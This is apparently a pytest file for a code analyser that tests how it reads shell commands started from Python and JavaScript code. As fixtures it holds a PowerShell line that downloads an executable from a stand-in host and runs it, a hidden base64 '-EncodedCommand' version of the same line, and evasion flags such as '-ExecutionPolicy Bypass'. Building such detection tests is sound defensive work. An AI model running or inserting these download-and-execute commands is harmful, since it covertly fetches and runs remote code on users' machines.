"""Command lines that code starts are read as the shell would read them, in the place of the call."""

import base64

import pytest

from lazaretto.core.facts import Facts, Kind, Moment
from lazaretto.core.inner import read_through
from lazaretto.core.language import NoUnits
from tests.languages.test_inner import TABLE

_SCRIPT = (
    'powershell Invoke-WebRequest -Uri "https://stage.invalid/a.exe" -OutFile "~/a.exe"; Invoke-Expression "~/a.exe"'
)
_ENCODED = base64.b64encode(_SCRIPT.encode("utf-16-le")).decode()


def read(dialect: str, text: str) -> Facts:
    """Read a file with all that stands inside it."""
    return read_through(TABLE, dialect, text.encode(), NoUnits())


@pytest.mark.parametrize(
    ("dialect", "text"),
    [
        ("python", "import subprocess\nsubprocess.Popen('{}', shell=False)\n"),
        ("python", "import os\ndef f():\n    os.system('{}')\n"),
        ("javascript", "const c = require('child_process');\nc.exec('{}');\n"),
    ],
)
def test_an_encoded_command_says_what_it_does(dialect: str, text: str) -> None:
    """What is started through ``-EncodedCommand`` fetches and starts a program: without this it is a mere process."""
    facts = read(dialect, text.format(f"powershell -WindowStyle Hidden -EncodedCommand {_ENCODED}"))

    (connects,) = [fact for fact in facts.facts if fact.kind is Kind.NET_CONNECT]
    started = {fact.value: number for number, fact in enumerate(facts.facts) if fact.kind is Kind.PROCESS_SPAWN}
    spawn = facts.facts[started["~/a.exe"]]
    assert connects.value == "https://stage.invalid/a.exe"
    assert (facts.facts.index(connects), started["~/a.exe"]) in {(flow.source, flow.sink) for flow in facts.flows}
    assert spawn.moment is (Moment.CALL if "def " in text else Moment.LOAD)
    assert spawn.span.line == connects.span.line > 1


def test_a_command_that_cannot_be_read_is_no_problem() -> None:
    """Nobody knows which shell reads a command with holes: what is not understood there must hold nothing."""
    facts = read("python", "import os\nos.system('powershell -enc %s (((' % open('a').read())\n")

    assert facts.complete


def test_the_name_of_a_program_is_no_script() -> None:
    """Plain commands are not read a second time: every started program would cost twice."""
    facts = read("python", "import os\nos.system('git rev-parse HEAD')\n")

    assert [fact.kind for fact in facts.facts] == [Kind.IMPORT, Kind.LITERAL_COMMAND, Kind.PROCESS_SPAWN]


@pytest.mark.parametrize("option", ["-Command", "-c", "-NoProfile", "-ExecutionPolicy Bypass", "-w hidden -nop", ""])
def test_options_of_powershell_end_where_its_command_begins(option: str) -> None:
    """Options behind the command are the command's own: taken for PowerShell's, they hid where it connects."""
    line = f"powershell {option} Invoke-WebRequest -Uri https://stage.invalid/a -OutFile b"
    facts = read("command", line)

    assert "https://stage.invalid/a" in {fact.value for fact in facts.facts if fact.kind is Kind.NET_CONNECT}
